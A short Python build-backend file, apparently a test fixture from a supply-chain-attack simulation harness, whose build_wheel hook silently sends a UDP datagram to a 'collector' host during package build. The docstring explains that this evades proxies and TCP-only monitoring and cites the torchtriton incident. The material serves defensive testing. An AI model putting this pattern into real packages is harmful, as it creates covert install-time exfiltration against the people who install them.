"""Sends one datagram to a collector.

No connection, no answer, nothing for a proxy to see: UDP leaves where only TCP is watched
or filtered by port. torchtriton's questions went out like this.
"""

import socket

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    with kit.attempt("send"):
        collector = kit.plant("collector")
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
            out.sendto(f"{kit.nonce}\n".encode(), (collector.address, collector.port))
    return kit.wheel(wheel_directory)
